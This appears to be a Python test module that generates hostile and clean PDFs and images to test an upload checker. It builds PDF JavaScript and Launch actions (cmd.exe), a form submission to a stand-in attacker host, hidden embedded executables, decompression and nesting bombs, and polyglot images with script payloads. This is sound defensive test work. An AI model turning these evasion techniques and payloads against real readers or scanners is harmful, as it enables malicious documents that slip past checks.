"""A corpus of hostile (and a few clean) uploads, generated in code: no binaries are committed.

Every file has a stable, descriptive name that is also its file name; the extension says what media type
the upload declares (``.pdf``, ``.png``, ``.jpg``, ``.tif``). Each name has an expectation: what the PDF
checker (``chalicelib.pdf.inspect.inspect_pdf``) or the image checker
(``chalicelib.pdf.image_check.verify_image``) must say about it. The unit tests assert exactly that, and the
integration tests run every file through the real upload path.

    python -m tests.hostile.corpus OUTDIR    # writes every file, and expectations.txt, into OUTDIR

Most PDFs are written byte by byte (``_Pdf``) so that each one differs from a valid one-page letter in
exactly the way its name says; the clean PDFs come from fpdf2 and the images from Pillow.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path

MEDIA_TYPES = {".pdf": "application/pdf", ".png": "image/png", ".jpg": "image/jpeg", ".tif": "image/tiff"}

NESTING = 50_000  # depth of the nesting bombs
BOMB_BYTES = 128 * 1024 * 1024  # what the object stream bomb expands to (from about 128 KB)

JS = b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hostile'\\); this.exportDataObject\\({}\\);) >>"


def declared_type(name: str) -> str:
    """The media type an upload of this corpus file declares (by its extension)."""
    return MEDIA_TYPES[Path(name).suffix]


# --------------------------------------------------------------------------------------------------
# Expectations


@dataclass(frozen=True)
class PdfExpectation:
    """What ``inspect_pdf`` must report for a file.

    ``findings`` is the exact set of (kind, where) pairs of active content; ``unreadable`` is None for a
    readable file, else a fragment the reason must contain ("" when the reason is the PDF library's own
    wording and only unreadability is asserted).
    """

    findings: frozenset[tuple[str, str]] = frozenset()
    unreadable: str | None = None
    encrypted: bool = False

    @property
    def refused(self) -> bool:
        """Whether the upload checker must refuse the file as a letter's main file (URI links are allowed)."""
        return (
            self.encrypted or self.unreadable is not None or any(kind != "uri" for kind, _ in self.findings)
        )


def _found(*pairs: tuple[str, str]) -> PdfExpectation:
    return PdfExpectation(findings=frozenset(pairs))


def _unreadable(fragment: str) -> PdfExpectation:
    return PdfExpectation(unreadable=fragment)


@dataclass(frozen=True)
class _Case:
    make: Callable[[], bytes]
    expect: object


# --------------------------------------------------------------------------------------------------
# A tiny PDF writer: numbered object bodies in, a file with a correct cross-reference table out.

PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> %s>>"  # noqa: E501
CONTENT = b"BT /F1 14 Tf 72 770 Td (A letter with something extra) Tj ET"


def _stream(entries: bytes, data: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


@dataclass
class _Pdf:
    """A one-page letter: 1 catalog, 2 page tree, 3 page, 4 content, 5 font; extra objects from 6."""

    catalog: bytes = b""
    page: bytes = b""
    objects: dict[int, bytes] = field(default_factory=dict)
    header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    trailer: bytes = b""

    def bodies(self) -> dict[int, bytes]:
        base = {
            1: b"<< /Type /Catalog /Pages 2 0 R %s>>" % self.catalog,
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: PAGE % self.page,
            4: _stream(b"", CONTENT),
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        }
        return {**base, **self.objects}

    def build(self) -> bytes:
        return _write(self.header, self.bodies(), self.trailer)


def _write(header: bytes, bodies: dict[int, bytes], trailer: bytes = b"", *, root: int = 1) -> bytes:
    out = bytearray(header)
    offsets: dict[int, int] = {}
    for number in sorted(bodies):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, bodies[number])
    size = max(bodies) + 1
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 00001 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, start)
    return bytes(out)


def _with_object_stream(
    plain: dict[int, bytes], packed: dict[int, bytes], *, padding: int = 0, root: int = 1
) -> bytes:
    """A PDF 1.5 file: ``packed`` objects live in one compressed object stream, found by an xref stream.

    ``padding`` spaces after the packed objects make the object stream decompress to that much more.
    """
    stream_number = max([*plain, *packed]) + 1
    xref_number = stream_number + 1
    offsets, body = [], bytearray()
    for number in sorted(packed):
        offsets.append(b"%d %d" % (number, len(body)))
        body += packed[number] + b"\n"
    index = b" ".join(offsets) + b"\n"
    compressor = zlib.compressobj(9)
    compressed = compressor.compress(index + bytes(body))
    chunk = b" " * (1 << 20)
    for _ in range(padding // len(chunk)):
        compressed += compressor.compress(chunk)
    compressed += compressor.flush()
    entries = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(index))
    bodies = {**plain, stream_number: _stream(entries, compressed)}

    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    rows: dict[int, tuple[int, int, int]] = {0: (0, 0, 65535)}
    for number in sorted(bodies):
        rows[number] = (1, len(out), 0)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, bodies[number])
    for index_in_stream, number in enumerate(sorted(packed)):
        rows[number] = (2, stream_number, index_in_stream)
    rows[xref_number] = (1, len(out), 0)
    table = b"".join(struct.pack(">BIH", *rows.get(number, (0, 0, 0))) for number in range(xref_number + 1))
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root %d 0 R" % (xref_number + 1, root)
    start = len(out)
    out += b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (xref_number, _stream(entries, table), start)
    return bytes(out)


def _incremental_update(base: bytes, bodies: dict[int, bytes]) -> bytes:
    """``base`` (a file with a classic xref table) with an update section replacing/adding ``bodies``."""
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    size = int(base.rsplit(b"/Size", 1)[1].split()[0])
    out = bytearray(base)
    offsets = {}
    for number in sorted(bodies):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, bodies[number])
    start = len(out)
    out += b"xref\n"
    for number in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    size = max(size, max(bodies) + 1)
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (size, previous, start)
    return bytes(out)


# --------------------------------------------------------------------------------------------------
# Active content: every action kind in every place an action can fire, plus the non-action kinds.

ACTIONS: dict[str, bytes] = {
    "javascript": JS,
    "launch": b"<< /Type /Action /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> /F (calc.exe) >>",
    "submit_form": b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> /Flags 4 >>",
    "import_data": b"<< /S /ImportData /F (answers.fdf) >>",
    "goto_remote": b"<< /S /GoToR /F << /FS /URL /F (https://attacker.example/next.pdf) >> /D [0 /Fit] >>",
    "goto_embedded": b"<< /S /GoToE /T << /R /C /N (attached.pdf) >> /D [0 /Fit] >>",
    "uri": b"<< /S /URI /URI (https://www.example.go.th/) >>",
}

WIDGET = b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 600 200 630] /P 3 0 R %s>>"
LINK = b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] %s>>"

# place -> (how to build a file with the action as object 6, where the checker reports it)
PLACES: dict[str, tuple[Callable[[], _Pdf], str]] = {
    "catalog_openaction": (lambda: _Pdf(catalog=b"/OpenAction 6 0 R "), "catalog /OpenAction"),
    "catalog_aa": (lambda: _Pdf(catalog=b"/AA << /WC 6 0 R >> "), "catalog /AA /WC"),
    "page_aa": (lambda: _Pdf(page=b"/AA << /O 6 0 R >> "), "page 1 /AA /O"),
    "link_annotation": (
        lambda: _Pdf(page=b"/Annots [7 0 R] ", objects={7: LINK % b"/A 6 0 R "}),
        "page 1 annotation 1 /A",
    ),
    "widget_aa": (
        lambda: _Pdf(
            catalog=b"/AcroForm << /Fields [7 0 R] >> ",
            page=b"/Annots [7 0 R] ",
            objects={7: WIDGET % b"/AA << /D 6 0 R >> "},
        ),
        "page 1 annotation 1 /AA /D",
    ),
}


def _action_case(kind: str, place: str) -> _Case:
    build, where = PLACES[place]

    def make() -> bytes:
        pdf = build()
        pdf.objects[6] = ACTIONS[kind]
        return pdf.build()

    return _Case(make, _found((kind, where)))


FILESPEC = b"<< /Type /Filespec /F (invoice.pdf.exe) /UF (invoice.pdf.exe) /EF << /F 9 0 R >> >>"
PAYLOAD = _stream(
    b"/Type /EmbeddedFile /Subtype /application#2Foctet-stream", b"MZ\x90\x00 not really a program"
)


def _js_cases() -> dict[str, _Case]:
    """JavaScript in the places that only JavaScript goes, or hidden in ways a naive check misses."""
    field_calculate = _Pdf(
        catalog=b"/AcroForm << /Fields [8 0 R] >> ",
        page=b"/Annots [7 0 R] ",
        objects={
            6: JS,
            7: b"<< /Type /Annot /Subtype /Widget /Parent 8 0 R /Rect [72 600 200 630] /P 3 0 R >>",
            8: b"<< /FT /Tx /T (total) /Kids [7 0 R] /AA << /C 6 0 R >> >>",
        },
    )
    return {
        "js_names_tree.pdf": _Case(
            lambda: _Pdf(
                catalog=b"/Names << /JavaScript 7 0 R >> ", objects={6: JS, 7: b"<< /Names [(init) 6 0 R] >>"}
            ).build(),
            _found(("javascript", "catalog /Names /JavaScript")),
        ),
        "js_form_field_calculate.pdf": _Case(
            field_calculate.build, _found(("javascript", "form field 'total' /AA /C"))
        ),
        "js_outline_item.pdf": _Case(
            lambda: _Pdf(
                catalog=b"/Outlines 7 0 R ",
                objects={
                    6: JS,
                    7: b"<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>",
                    8: b"<< /Title (Chapter 1) /Parent 7 0 R /A 6 0 R >>",
                },
            ).build(),
            _found(("javascript", "catalog /Outlines /First /A")),
        ),
        "js_action_next_chain.pdf": _Case(
            lambda: _Pdf(
                catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >> ", objects={6: JS}
            ).build(),
            _found(("javascript", "catalog /OpenAction /Next[0]")),
        ),
        "js_hex_escaped_names.pdf": _Case(
            lambda: _Pdf(
                catalog=b"/OpenAction 6 0 R ",
                objects={6: b"<< /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"},
            ).build(),
            _found(("javascript", "catalog /OpenAction")),
        ),
        "js_in_object_stream.pdf": _Case(
            lambda: _with_object_stream(
                {k: v for k, v in _Pdf().bodies().items() if k in (3, 4, 5)},
                {
                    1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
                    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                    6: JS,
                },
            ),
            _found(("javascript", "catalog /OpenAction")),
        ),
        "js_added_by_incremental_update.pdf": _Case(
            lambda: _incremental_update(
                _Pdf().build(),
                {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", 6: JS},
            ),
            _found(("javascript", "catalog /OpenAction")),
        ),
        "js_direct_annotation_dict.pdf": _Case(
            lambda: _Pdf(
                page=b"/Annots [%s %s] " % (LINK % b"", LINK % b"/A 6 0 R "), objects={6: JS}
            ).build(),
            _found(("javascript", "page 1 annotation 2 /A")),
        ),
        "js_on_page_2.pdf": _Case(
            lambda: _Pdf(
                objects={
                    2: b"<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>",
                    6: PAGE % b"/Annots [7 0 R] ",
                    7: LINK % b"/A 8 0 R ",
                    8: JS,
                }
            ).build(),
            _found(("javascript", "page 2 annotation 1 /A")),
        ),
        "uri_in_catalog_openaction.pdf": _Case(  # a web page opened with the document: reported, allowed
            lambda: _Pdf(catalog=b"/OpenAction %s " % ACTIONS["uri"]).build(),
            _found(("uri", "catalog /OpenAction")),
        ),
    }


def _other_kind_cases() -> dict[str, _Case]:
    return {
        "embedded_file_names_tree.pdf": _Case(
            lambda: _Pdf(
                catalog=b"/Names << /EmbeddedFiles << /Names [(invoice.pdf.exe) 8 0 R] >> >> ",
                objects={8: FILESPEC, 9: PAYLOAD},
            ).build(),
            _found(("embedded_file", "catalog /Names /EmbeddedFiles")),
        ),
        "embedded_file_attachment_annotation.pdf": _Case(
            lambda: _Pdf(
                page=b"/Annots [7 0 R] ",
                objects={
                    7: b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS 8 0 R >>",
                    8: FILESPEC,
                    9: PAYLOAD,
                },
            ).build(),
            _found(("embedded_file", "page 1 annotation 1")),
        ),
        "embedded_file_hidden_in_pieceinfo.pdf": _Case(
            lambda: _Pdf(
                page=b"/PieceInfo << /Tool << /Private 8 0 R >> >> ", objects={8: FILESPEC, 9: PAYLOAD}
            ).build(),
            _found(("embedded_file", "page 1 /PieceInfo /Tool /Private")),
        ),
        "rich_media_annotation.pdf": _Case(
            lambda: _Pdf(
                page=b"/Annots [7 0 R] ",
                objects={
                    7: b"<< /Type /Annot /Subtype /RichMedia /Rect [72 500 300 700] /RichMediaContent "
                    b"<< /Assets << /Names [(movie.swf) 8 0 R] >> >> >>",
                    8: FILESPEC,
                    9: PAYLOAD,
                },
            ).build(),
            _found(
                ("rich_media", "page 1 annotation 1"),
                ("embedded_file", "page 1 annotation 1 /RichMediaContent /Assets /Names[1]"),
            ),
        ),
        "multimedia_screen_annotation.pdf": _Case(
            lambda: _Pdf(
                page=b"/Annots [7 0 R] ",
                objects={
                    7: b"<< /Type /Annot /Subtype /Screen /Rect [72 500 300 700] "
                    b"/A << /S /Rendition /OP 0 /AN 7 0 R >> >>"
                },
            ).build(),
            _found(("multimedia", "page 1 annotation 1")),
        ),
        "xfa_form.pdf": _Case(
            lambda: _Pdf(
                catalog=b"/AcroForm << /Fields [] /XFA 8 0 R >> /NeedsRendering true ",
                objects={
                    8: _stream(b"", b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
                },
            ).build(),
            _found(("xfa", "catalog /AcroForm /XFA"), ("xfa", "catalog /NeedsRendering")),
        ),
        "kitchen_sink.pdf": _Case(
            lambda: _Pdf(
                catalog=b"/OpenAction 6 0 R /Names << /EmbeddedFiles << /Names [(a.exe) 8 0 R] >> >> ",
                page=b"/Annots [7 0 R 10 0 R] ",
                objects={
                    6: JS,
                    7: LINK % (b"/A %s " % ACTIONS["launch"]),
                    8: FILESPEC,
                    9: PAYLOAD,
                    10: LINK % (b"/A %s " % ACTIONS["uri"]),
                },
            ).build(),
            _found(
                ("javascript", "catalog /OpenAction"),
                ("embedded_file", "catalog /Names /EmbeddedFiles"),
                ("launch", "page 1 annotation 1 /A"),
                ("uri", "page 1 annotation 2 /A"),
            ),
        ),
    }


# --------------------------------------------------------------------------------------------------
# Crafted and malformed files: each must come back unreadable (or encrypted), never as an exception.


def _nested(opening: bytes, closing: bytes, depth: int = NESTING) -> bytes:
    return opening * depth + closing * depth


def _page_chain(depth: int) -> bytes:
    """A page tree ``depth`` levels deep: every /Pages node has one kid, the last one the page."""
    bodies = _Pdf().bodies()
    first = 10
    bodies[2] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % first
    parent = 2
    for level in range(depth):
        number = first + level
        kid = number + 1 if level < depth - 1 else 3
        bodies[number] = b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (parent, kid)
        parent = number
    bodies[3] = bodies[3].replace(b"/Parent 2 0 R", b"/Parent %d 0 R" % parent)
    return _write(b"%PDF-1.7\n", bodies)


def _many_objects(count: int) -> bytes:
    """An array of ``count`` empty dictionaries: cheap to write, costly to walk."""
    return _Pdf(page=b"/PieceInfo 6 0 R ", objects={6: b"[" + b"<<>> " * count + b"]"}).build()


def _replace(pdf: _Pdf, number: int, body: bytes) -> bytes:
    bodies = pdf.bodies()
    bodies[number] = body
    return _write(pdf.header, bodies)


def _truncated_in_xref() -> bytes:
    data = _Pdf().build()
    return data[: data.index(b"\nxref\n") + 40]


def _xref_rows_missing() -> bytes:
    """The cross-reference table lists 6 objects but has rows for only 3; trailer and startxref intact."""
    data = _Pdf().build()
    start = data.index(b"\nxref\n") + 1
    rows_from = data.index(b"\n", data.index(b"\n", start) + 1) + 1
    end = data.index(b"trailer")
    return data[:rows_from] + data[rows_from : rows_from + 3 * 20] + data[end:]


def _startxref_past_end() -> bytes:
    data = _Pdf().build()
    at = data.rindex(b"startxref\n") + len(b"startxref\n")
    return data[:at] + b"99999999\n%%EOF\n"


def _garbage_after_header() -> bytes:
    return b"%PDF-1.7\n" + random.Random(20240501).randbytes(8192)


def _encrypted(user_password: str) -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(_fpdf_letter(pages=1))))
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _malformed_cases() -> dict[str, _Case]:
    clean = _Pdf()
    return {
        "nesting_50000_arrays.pdf": _Case(
            lambda: _Pdf(page=b"/PieceInfo 6 0 R ", objects={6: _nested(b"[", b"]")}).build(),
            _unreadable("nested too deeply"),
        ),
        "nesting_50000_dicts_in_catalog.pdf": _Case(
            lambda: _Pdf(catalog=b"/Extra " + _nested(b"<< /A ", b">> ") + b" ").build(),
            _unreadable("nested too deeply"),
        ),
        "reference_to_itself.pdf": _Case(
            lambda: _Pdf(page=b"/PieceInfo 6 0 R ", objects={6: b"6 0 R"}).build(),
            _unreadable("refers to itself"),
        ),
        "pages_direct_dictionary.pdf": _Case(
            lambda: _replace(
                clean, 1, b"<< /Type /Catalog /Pages << /Type /Pages /Kids [3 0 R] /Count 1 >> >>"
            ),
            _unreadable("/Pages"),
        ),
        "pages_missing.pdf": _Case(
            lambda: _replace(clean, 1, b"<< /Type /Catalog >>"), _unreadable("/Pages")
        ),
        "kids_cycle.pdf": _Case(
            lambda: _replace(clean, 2, b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"),
            _unreadable("page tree"),
        ),
        "kids_same_page_twice.pdf": _Case(
            lambda: _replace(clean, 2, b"<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>"),
            _unreadable("page tree"),
        ),
        "parent_loop.pdf": _Case(
            lambda: _Pdf(
                objects={
                    2: b"<< /Type /Pages /Kids [6 0 R] /Count 1 >>",
                    6: b"<< /Type /Pages /Parent 7 0 R /Kids [3 0 R] /Count 1 >>",
                    7: b"<< /Type /Pages /Parent 6 0 R /Kids [] /Count 0 >>",
                }
            ).build(),
            _unreadable("/Parent"),
        ),
        "page_tree_1000_deep.pdf": _Case(lambda: _page_chain(1000), _unreadable("deeper than")),
        "count_huge.pdf": _Case(
            lambda: _replace(clean, 2, b"<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"),
            _unreadable("/Count"),
        ),
        "count_not_a_number.pdf": _Case(
            lambda: _replace(clean, 2, b"<< /Type /Pages /Kids [3 0 R] /Count (many) >>"),
            _unreadable("/Count"),
        ),
        "no_pages.pdf": _Case(
            lambda: _replace(clean, 2, b"<< /Type /Pages /Kids [] /Count 0 >>"), _unreadable("no pages")
        ),
        "kid_not_a_page.pdf": _Case(
            lambda: _replace(clean, 3, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"),
            _unreadable("page tree"),
        ),
        "root_missing.pdf": _Case(
            lambda: _write(b"%PDF-1.7\n", {k: v for k, v in clean.bodies().items() if k != 1}, root=1),
            _unreadable("catalog"),
        ),
        "object_stream_bomb.pdf": _Case(
            lambda: _with_object_stream(
                {k: v for k, v in _Pdf().bodies().items() if k in (2, 3, 4, 5)},
                {1: b"<< /Type /Catalog /Pages 2 0 R >>"},
                padding=BOMB_BYTES,
            ),
            _unreadable("decoding limit"),
        ),
        "object_count_bomb.pdf": _Case(lambda: _many_objects(320_000), _unreadable("too many objects")),
        "truncated_in_xref.pdf": _Case(_truncated_in_xref, _unreadable("")),
        "xref_rows_missing.pdf": _Case(_xref_rows_missing, _unreadable("")),
        "startxref_past_end.pdf": _Case(_startxref_past_end, _unreadable("")),
        "truncated_half.pdf": _Case(
            lambda: _fpdf_letter(pages=2)[: len(_fpdf_letter(pages=2)) // 2], _unreadable("")
        ),
        "garbage_after_header.pdf": _Case(_garbage_after_header, _unreadable("")),
        "encrypted_empty_user_password.pdf": _Case(lambda: _encrypted(""), PdfExpectation(encrypted=True)),
        "encrypted_user_password.pdf": _Case(lambda: _encrypted("letmein"), PdfExpectation(encrypted=True)),
    }


@cache
def _pdf_cases() -> dict[str, _Case]:
    cases = {
        f"action_{kind}_in_{place}.pdf": _action_case(kind, place)
        for kind in ACTIONS
        if kind != "uri"
        for place in PLACES
    }
    return {**cases, **_js_cases(), **_other_kind_cases(), **_malformed_cases()}


# --------------------------------------------------------------------------------------------------
# Clean PDFs


@cache
def _fpdf_letter(*, pages: int = 2, link: str | None = None, outline: bool = False) -> bytes:
    from datetime import UTC, datetime

    from fpdf import FPDF

    doc = FPDF(format="A4")
    doc.set_font("helvetica", size=12)
    doc.set_creation_date(datetime(2024, 5, 1, tzinfo=UTC))  # the same bytes on every run
    for number in range(pages):
        doc.add_page()
        if outline:
            doc.start_section(f"Part {number + 1}")
        doc.cell(text=f"An ordinary letter, page {number + 1}")
        if link and number == 0:
            doc.ln()
            doc.cell(text="See the agency web site", link=link)
    return bytes(doc.output())


@cache
def _clean_pdf_cases() -> dict[str, _Case]:
    return {
        "clean_two_pages.pdf": _Case(lambda: _fpdf_letter(pages=2), PdfExpectation()),
        "clean_with_web_link.pdf": _Case(
            lambda: _fpdf_letter(pages=1, link="https://www.example.go.th/"),
            _found(("uri", "page 1 annotation 1 /A")),
        ),
        "clean_with_outline.pdf": _Case(lambda: _fpdf_letter(pages=3, outline=True), PdfExpectation()),
        "clean_handmade.pdf": _Case(lambda: _Pdf().build(), PdfExpectation()),
        "clean_object_streams.pdf": _Case(
            lambda: _with_object_stream(
                {k: v for k, v in _Pdf().bodies().items() if k in (3, 4)},
                {k: v for k, v in _Pdf().bodies().items() if k in (1, 2, 5)},
            ),
            PdfExpectation(),
        ),
        "clean_page_tree_two_levels.pdf": _Case(lambda: _page_chain(3), PdfExpectation()),
    }


# --------------------------------------------------------------------------------------------------
# Images: None means the image checker must pass the file, a string is a fragment of its reason.


def _pillow(mode: str, size: tuple[int, int], fmt: str, **options: object) -> bytes:
    from PIL import Image, ImageDraw

    image = Image.new(mode, size, "white" if mode != "P" else 0)
    ImageDraw.Draw(image).rectangle((size[0] // 4, size[1] // 4, size[0] // 2, size[1] // 2), fill="black")
    out = io.BytesIO()
    image.save(out, fmt, **options)
    return out.getvalue()


def _png(width: int, height: int, *, bit_depth: int = 1) -> bytes:
    """A grey PNG written by hand (so its declared size can be anything), all zeros, streamed."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" * (1 + (width * bit_depth + 7) // 8)
    compressor = zlib.compressobj(9)
    rows_per_chunk = max(1, (1 << 20) // len(row))
    idat = bytearray()
    for first in range(0, height, rows_per_chunk):
        idat += compressor.compress(row * min(rows_per_chunk, height - first))
    idat += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", bytes(idat)) + chunk(b"IEND", b"")


def _tiff_cut_after_first_page() -> bytes:
    """A two-page TIFF cut short: page 1 is whole, the directory of page 2 is gone."""
    data = _multipage_tiff()
    first_ifd = struct.unpack_from("<I", data, 4)[0]
    (count,) = struct.unpack_from("<H", data, first_ifd)
    second_ifd = struct.unpack_from("<I", data, first_ifd + 2 + 12 * count)[0]
    return data[: second_ifd + 6]


def _tiff_directory_loop() -> bytes:
    """A TIFF whose image directory names itself as the next one."""
    data = bytearray(_pillow("L", (64, 64), "TIFF"))
    first_ifd = struct.unpack_from("<I", data, 4)[0]
    (count,) = struct.unpack_from("<H", data, first_ifd)
    struct.pack_into("<I", data, first_ifd + 2 + 12 * count, first_ifd)
    return bytes(data)


def _tiff_patched(tags: dict[int, int]) -> bytes:
    """A small uncompressed TIFF whose IFD entries for ``tags`` now say something else."""
    data = bytearray(_pillow("L", (64, 64), "TIFF"))
    assert data[:2] == b"II"
    ifd = struct.unpack_from("<I", data, 4)[0]
    (count,) = struct.unpack_from("<H", data, ifd)
    for entry in range(count):
        at = ifd + 2 + 12 * entry
        tag, _kind, _ = struct.unpack_from("<HHI", data, at)
        if tag in tags:
            struct.pack_into("<HHII", data, at, tag, 4, 1, tags[tag])  # as one LONG
    return bytes(data)


def _zip() -> bytes:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", "<script>alert(document.cookie)</script>")
    return out.getvalue()


def _corrupt_png_crc() -> bytes:
    data = bytearray(_pillow("RGB", (64, 48), "PNG"))
    at = data.index(b"IDAT") + 10
    data[at] ^= 0xFF
    return bytes(data)


@cache
def _image_cases() -> dict[str, _Case]:
    png = _pillow("RGB", (120, 80), "PNG")
    jpeg = _pillow("RGB", (120, 80), "JPEG", quality=85)
    html = b"<html><body><script>alert(document.domain)</script></body></html>"
    return {
        "png_magic_then_html.png": _Case(lambda: b"\x89PNG\r\n\x1a\n" + html, "PNG"),
        "png_truncated.png": _Case(lambda: png[: len(png) // 2], "truncated"),
        "png_trailing_script.png": _Case(lambda: png + b"<script>alert(1)</script>", "after the image end"),
        "png_bad_crc.png": _Case(_corrupt_png_crc, "PNG"),
        "png_decompression_bomb_30000x30000.png": _Case(lambda: _png(30000, 30000), "pixels"),
        "png_just_over_pixel_limit.png": _Case(lambda: _png(10000, 10000), "pixels"),
        "png_declared_as_jpeg.jpg": _Case(lambda: png, "JPEG"),
        "jpeg_appended_zip.jpg": _Case(lambda: jpeg + _zip(), "after the image end"),
        "jpeg_appended_html.jpg": _Case(lambda: jpeg + html, "after the image end"),
        "jpeg_truncated.jpg": _Case(lambda: jpeg[: len(jpeg) * 2 // 3], "truncated"),
        "jpeg_magic_then_html.jpg": _Case(lambda: b"\xff\xd8\xff\xe0" + html, "JPEG"),
        "tiff_lies_about_size.tif": _Case(lambda: _tiff_patched({256: 5000, 257: 5000}), "TIFF"),
        "tiff_strip_beyond_end.tif": _Case(lambda: _tiff_patched({273: 10_000_000}), "TIFF"),
        "tiff_magic_then_html.tif": _Case(lambda: b"II*\x00" + html, "TIFF"),
        "gif_declared_as_png.png": _Case(lambda: _pillow("P", (20, 20), "GIF"), "PNG"),
        "tiff_cut_after_page_1.tif": _Case(_tiff_cut_after_first_page, "past the end"),
        "tiff_directory_loop.tif": _Case(_tiff_directory_loop, "loop"),
    }


@cache
def _clean_image_cases() -> dict[str, _Case]:
    return {
        "clean_rgb.png": _Case(lambda: _pillow("RGB", (300, 200), "PNG"), None),
        "clean_palette_interlaced.png": _Case(
            lambda: _pillow("P", (300, 200), "PNG", interlace=True, transparency=0), None
        ),
        "clean_grey_16bit.png": _Case(lambda: _pillow("I;16", (100, 100), "PNG"), None),
        "clean_baseline.jpg": _Case(lambda: _pillow("RGB", (640, 480), "JPEG", quality=90), None),
        "clean_progressive_with_exif.jpg": _Case(
            lambda: _pillow("RGB", (640, 480), "JPEG", progressive=True, exif=_exif()), None
        ),
        "clean_grey_zero_padded.jpg": _Case(lambda: _pillow("L", (200, 300), "JPEG") + b"\x00" * 64, None),
        "clean_multi_picture.jpg": _Case(_mpo, None),
        "clean_scan_g4.tif": _Case(
            lambda: _pillow("1", (2480, 3508), "TIFF", compression="group4", dpi=(300, 300)), None
        ),
        "clean_lzw_two_pages.tif": _Case(_multipage_tiff, None),
    }


def _exif() -> bytes:
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F] = "Camera maker"
    exif[0x0110] = "Model 1"
    return exif.tobytes()


def _mpo() -> bytes:
    """A JPEG with a second picture appended (Multi-Picture Format), as phones and cameras write."""
    from PIL import Image

    first, second = Image.new("RGB", (320, 240), "navy"), Image.new("RGB", (160, 120), "orange")
    out = io.BytesIO()
    first.save(out, "MPO", save_all=True, append_images=[second])
    return out.getvalue()


def _multipage_tiff() -> bytes:
    from PIL import Image

    pages = [Image.new("L", (400, 560), shade) for shade in (255, 200)]
    out = io.BytesIO()
    pages[0].save(out, "TIFF", save_all=True, append_images=pages[1:], compression="tiff_lzw")
    return out.getvalue()


# --------------------------------------------------------------------------------------------------
# The public face: names -> bytes, names -> expectations.


@cache
def _all_cases() -> dict[str, _Case]:
    return {**_pdf_cases(), **_clean_pdf_cases(), **_image_cases(), **_clean_image_cases()}


@cache
def _build(name: str) -> bytes:
    return _all_cases()[name].make()


def hostile_pdfs() -> dict[str, bytes]:
    """Every hostile PDF, by file name."""
    return {name: _build(name) for name in _pdf_cases()}


def clean_pdfs() -> dict[str, bytes]:
    """A few ordinary PDFs (one with a web link), by file name."""
    return {name: _build(name) for name in _clean_pdf_cases()}


def hostile_images() -> dict[str, bytes]:
    """Every hostile image, by file name; the extension is the type it is declared as."""
    return {name: _build(name) for name in _image_cases()}


def clean_images() -> dict[str, bytes]:
    """Ordinary PNG, JPEG and TIFF files of the kinds scanners and cameras write, by file name."""
    return {name: _build(name) for name in _clean_image_cases()}


def pdf_expectations() -> dict[str, PdfExpectation]:
    """What ``inspect_pdf`` must say about every hostile and clean PDF, by file name."""
    cases = {**_pdf_cases(), **_clean_pdf_cases()}
    return {name: case.expect for name, case in cases.items() if isinstance(case.expect, PdfExpectation)}


def image_expectations() -> dict[str, str | None]:
    """None for images the checker must pass, else a fragment of the reason it must give, by file name."""
    cases = {**_image_cases(), **_clean_image_cases()}
